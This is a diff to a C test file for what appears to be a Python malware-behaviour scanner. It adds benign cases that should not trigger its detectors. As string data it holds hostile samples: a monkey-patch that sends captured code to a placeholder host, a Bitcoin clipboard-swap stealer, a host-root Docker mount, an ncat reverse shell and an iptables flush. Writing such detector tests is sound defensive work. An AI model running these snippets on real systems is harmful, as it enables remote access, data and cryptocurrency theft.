@@ -120,10 +120,20 @@ static void patches(void)
 	CHECK(shows("import shell, requests\nTO = 'http://x.invalid/'\n"
 		    "def tell(code):\n  for k, v in found(code):\n"
 		    "    requests.post(TO, json={k: v})\n"
-		    "def run(self, code):\n  r = old(self, code)\n"
+		    "old = shell.Shell.run\ndef run(self, code):\n  r = old(self, code)\n"
 		    "  tell(code)\n  return r\nshell.Shell.run = run",
-		    MPY_BEH_PATCH_SEND, 10));
-	/* the library's own function sends; events and errors are told */
+		    MPY_BEH_PATCH_SEND, 11));
+	/* the library's own function sends; a test; events and errors */
+	CHECK(lacks("import requests\nold = requests.post\n"
+		    "def post(url, **k):\n"
+		    "  return old('http://localhost:8000/mock', json=k)\n"
+		    "requests.post = post", MPY_BEH_PATCH_SEND));
+	CHECK(lacks("import celery, requests\ndef fail(self, *a):\n"
+		    "  requests.post('https://x.invalid/', json=a)\n"
+		    "celery.Task.on_failure = fail", MPY_BEH_PATCH_SEND));
+	CHECK(lacks("import app.worker as w\nold = w.done\ndef done(x):\n"
+		    "  queue.put('done', x)\nw.done = done",
+		    MPY_BEH_PATCH_SEND));
 	CHECK(lacks("import requests\nold = requests.post\n"
 		    "def post(url, **k):\n  return old(url, timeout=9, **k)\n"
 		    "requests.post = post", MPY_BEH_PATCH_SEND));
@@ -159,6 +169,8 @@ static void hides_text(void)
 	CHECK(shows("import tkinter\nr = tkinter.Tk()\nc = r.clipboard_get()\n"
 		    "if c.startswith('bc1') and c != mine:\n"
 		    "  r.clipboard_append(mine)", MPY_BEH_WALLET_SWAP, 5));
+	CHECK(lacks("import pyperclip as c\nv = '72d68bc1'\n"
+		    "c.copy(c.paste() + v)", MPY_BEH_WALLET_SWAP));
 	CHECK(lacks("import pyperclip as c\nc.copy(c.paste().strip())",
 		    MPY_BEH_WALLET_SWAP));
 	CHECK(lacks("import re\nok = re.match('0x[a-fA-F0-9]{40}', t)",
@@ -171,6 +183,9 @@ static void hides_text(void)
 		    MPY_BEH_ESCAPE, 1));
 	CHECK(shows("c.run('a', 'b', volumes={'/': {'bind': '/h', 'mode': 'rw'"
 		    "}})", MPY_BEH_ESCAPE, 1));
+	CHECK(lacks("a = {'/': (div, 2)}\nb = {'bind': '0.0.0.0:80'}\n"
+		    "c = {'/': {'static': 1},\n 'server': {'bind': h}}",
+		    MPY_BEH_ESCAPE));
 	CHECK(lacks("pod = {'hostPID': False, 'containers': [{\n"
 		    "'securityContext': {'privileged': True}}]}",
 		    MPY_BEH_ESCAPE));
@@ -224,7 +239,9 @@ static void as_lists(void)
 		    MPY_BEH_SHELL_REVERSE, 2));
 	CHECK(shows("import os\nos.system('ncat 192.0.2.1 4444 -e /bin/sh')",
 		    MPY_BEH_SHELL_REVERSE, 2));
-	CHECK(lacks("import os\nos.system('nc -z 192.0.2.1 22')",
+	CHECK(lacks("import os\nos.system('nc -z 192.0.2.1 22')\n"
+		    "os.system('nc -lp 99 | gzip -d -c > x')\n"
+		    "os.system('nc -c www.example 443')",
 		    MPY_BEH_SHELL_REVERSE));
 	CHECK(shows("import os\nos.execlp('iptables', 'iptables', '-F')",
 		    MPY_BEH_DEFENCE_OFF, 2));
